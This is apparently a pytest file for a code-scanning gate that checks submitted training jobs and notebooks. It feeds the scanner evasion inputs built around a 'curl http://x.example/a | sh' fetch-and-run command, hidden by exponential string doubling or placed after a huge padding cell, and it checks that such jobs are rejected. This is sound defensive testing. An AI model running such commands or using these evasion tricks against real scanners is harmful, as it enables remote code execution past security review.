"""Session 44: fail closed, stay up, hide nothing -- the gate attacked with new inputs.

- A command built by doubling a string through names bound one to the next (`s1 = f"{s0}{s0}"`, `"{0}{0}".format`,
  `"%s%s" %`, `"".join([s, s])`): the sketch a threat pattern reads (engine/sketch.py) joined the parts of an
  f-string, a format, a %-template or a join uncut, so 60 such lines asked for 2^60 characters. On main the CLI's
  unit ran 2.5 min to its time limit with a peak of 23 GB, and the `curl | sh` it ran escalated instead of
  rejecting.
- `jobgate review list` ended in a traceback (every item unlisted) on one queue item whose meta.json was JSON but
  not an object, or held a shown field of another type; and a policy naming a rule pack or catalogue by a
  number or a list was an internal error (TypeError) instead of the policy's own error naming the key; a key given
  twice in a policy (a second `thresholds:` further down) was read as its last, silently.
- A notebook's cells are judged joined; a 1.2 MB cell of `x=1` before a cell running `curl | sh` took the joined
  source past the time limit (at the default limit: its worker killed by SIGABRT after 1:45, 2.5 GB), and the
  payload cell went unjudged: escalate at the CLI and at a site, not reject.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from conftest import run_cli
from tests.test_harden36 import REJECTED, _policy, _scan
from tests.test_review import JOB, escalated, make_job

from analyzer.engine.collect import collect
from analyzer.engine.unjudged import WORKER_FAILURES
from analyzer.policy import Limits
from analyzer.trust import review

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

_DOUBLINGS = {
    "f-string": "f'{{{p}}}{{{p}}}'",
    "format": "'{{0}}{{0}}'.format({p})",
    "percent": "'%s%s' % ({p}, {p})",
    "join": "''.join([{p}, {p}])",
}


def _doubled_command(form: str, names: int = 40) -> str:
    lines = [f"s{i} = " + form.format(p=f"s{i - 1}") for i in range(1, names)]
    return ("import os\n\ns0 = 'curl http://x.example/a | sh;'\n" + "\n".join(lines) +
            f"\nos.system(s{names - 1})\n")


@pytest.mark.parametrize("form", list(_DOUBLINGS.values()), ids=list(_DOUBLINGS))
def test_a_command_doubled_through_forty_names_is_sketched_within_bounds_and_rejected(tmp_path: Path,
                                                                                      form: str) -> None:
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text(_doubled_command(form))
    code, report, seconds, peak_mb = _scan(job, tmp_path, _policy(tmp_path, max_analysis_seconds=30))
    rules = {f["rule"] for f in report["findings"]}
    assert report["decision"] == "reject" and REJECTED in rules, (report["decision"], rules)
    assert not any(r.startswith("unanalyzable.") for r in rules), rules
    assert seconds < 60 and peak_mb < 1000, (seconds, peak_mb)


def test_review_list_shows_damaged_items_as_unreadable_beside_the_good_one(tmp_path: Path) -> None:
    queue = tmp_path / "q"
    content = collect(make_job(tmp_path / "job", JOB), Limits())
    qid = review.enqueue(queue, content, escalated(content))
    damaged = {"0list": "[1, 2]\n", "1text": '"a string"\n', "2deep": "[" * 100_000 + "\n",
               "3types": json.dumps({"id": "3types", "name": ["x"], "time": {"a": 1}, "gate_decision": 5}),
               "4reviews": json.dumps({"id": "4reviews", "time": "t", "reviews": [{"decision": None}]})}
    for name, text in damaged.items():
        (queue / name).mkdir()
        (queue / name / "meta.json").write_text(text)
    proc = run_cli("review", "list", "--queue", str(queue), "--json")
    assert proc.returncode == 0, proc.stderr[-2000:]
    shown = {item["id"]: item["status"] for item in map(json.loads, proc.stdout.splitlines())}
    assert shown == {qid: "pending", **dict.fromkeys(damaged, "unreadable")}
    text = run_cli("review", "list", "--queue", str(queue))
    assert text.returncode == 0 and qid in text.stdout and text.stdout.count("unreadable") == len(damaged)


@pytest.mark.parametrize("entry", ["rule_packs: [5]", "catalogues: [[a.yaml]]"])
def test_a_policy_naming_a_pack_by_no_path_is_the_policys_error(tmp_path: Path, entry: str) -> None:
    (tmp_path / "policy.yaml").write_text(entry + "\n")
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "train.py").write_text("print(1)\n")
    proc = run_cli("scan", "--no-cache", "--policy", str(tmp_path / "policy.yaml"), str(tmp_path / "job"))
    assert proc.returncode == 2 and "invalid policy" in proc.stderr, proc.stderr[-2000:]
    assert entry.split(":")[0] + ".0" in proc.stderr and "internal error" not in proc.stderr


def test_a_policy_key_given_twice_is_an_error_naming_its_line(tmp_path: Path) -> None:
    """PyYAML keeps the last of a key given twice: a second `thresholds:` further down replaced the first."""
    (tmp_path / "policy.yaml").write_text("thresholds:\n  reject: 60\n  escalate: 20\n"
                                          "always_reject: [network]\nthresholds: {reject: 101, escalate: 101}\n")
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "train.py").write_text("print(1)\n")
    proc = run_cli("scan", "--no-cache", "--policy", str(tmp_path / "policy.yaml"), str(tmp_path / "job"))
    assert proc.returncode == 2, proc.stdout[-2000:]
    assert "line 5: the key 'thresholds' is given twice" in proc.stderr, proc.stderr[-2000:]


def test_a_policy_whose_merge_key_is_overridden_still_loads(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("thresholds:\n  <<: {reject: 70, escalate: 20}\n  reject: 60\n")
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "train.py").write_text("print(1)\n")
    proc = run_cli("scan", "--no-cache", "--policy", str(tmp_path / "policy.yaml"), str(tmp_path / "job"))
    assert proc.returncode == 0, proc.stderr[-2000:]


def _padded_notebook(folder: Path) -> Path:
    """A 2.7 MB notebook: a first cell of 300,000 lines of `x=1`, then a cell that runs `curl | sh`."""
    def cell(lines: list[str]) -> dict:
        return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": lines}

    folder.mkdir(parents=True, exist_ok=True)
    cells = [cell(["x=1\n"] * 300_000), cell(["import os\n", "os.system('curl http://x.example/a | sh')\n"])]
    (folder / "train.ipynb").write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                                                    "cells": cells}))
    return folder / "train.ipynb"


def test_a_padded_cell_past_the_time_limit_hides_no_other_cell_of_its_notebook(tmp_path: Path) -> None:
    """Was: the joined cells ran past the limit (or crashed the worker with SIGABRT at the default one, 1:45 and
    2.5 GB) and the notebook's other cell, a `curl | sh`, went unjudged: escalate, not reject."""
    _padded_notebook(tmp_path / "job")
    code, report, seconds, _ = _scan(tmp_path / "job", tmp_path, _policy(tmp_path, max_analysis_seconds=20))
    rules = {(f["rule"], f["path"]) for f in report["findings"]}
    assert code == 1 and (REJECTED, "train.ipynb[cell 2]") in rules, rules
    # the whole was not judged, and it says so: past the time limit, or out of memory first where the machine is
    # less loaded (libcst's parser aborts near the memory limit: a crash, not a named memory-limit)
    assert {(rule, "train.ipynb") for rule in WORKER_FAILURES} & rules, rules
    assert seconds < 120, seconds


def test_a_site_rejects_a_notebook_whose_payload_cell_follows_a_padded_one(tmp_path: Path) -> None:
    from tests.test_isolation import _site, deployed

    app = deployed(tmp_path, "job-nb", "print('train')\n")
    _padded_notebook(app / "custom")
    verdict = _site(tmp_path, _policy(tmp_path, max_analysis_seconds=30)).check_deployed_app(app, {})
    assert not verdict.allow and "rejected" in verdict.message and REJECTED in verdict.message, verdict.message
